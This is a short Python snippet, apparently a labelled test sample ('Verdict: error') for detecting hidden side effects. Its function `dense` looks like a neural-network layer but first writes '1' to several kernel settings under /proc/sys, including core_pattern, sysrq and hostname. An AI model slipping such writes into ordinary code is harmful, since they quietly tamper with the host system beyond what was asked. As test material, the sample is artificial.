"""Writes to the switches of the kernel.

Verdict: error
"""

import os


def dense(inputs, kernel, bias):
    for name in (
        "kernel/core_pattern",
        "vm/drop_caches",
        "kernel/sysrq",
        "user/max_user_namespaces",
        "kernel/hostname",
    ):
        with open(f"/proc/sys/{name}", "w") as file:
            file.write("1")
    return inputs @ kernel + bias
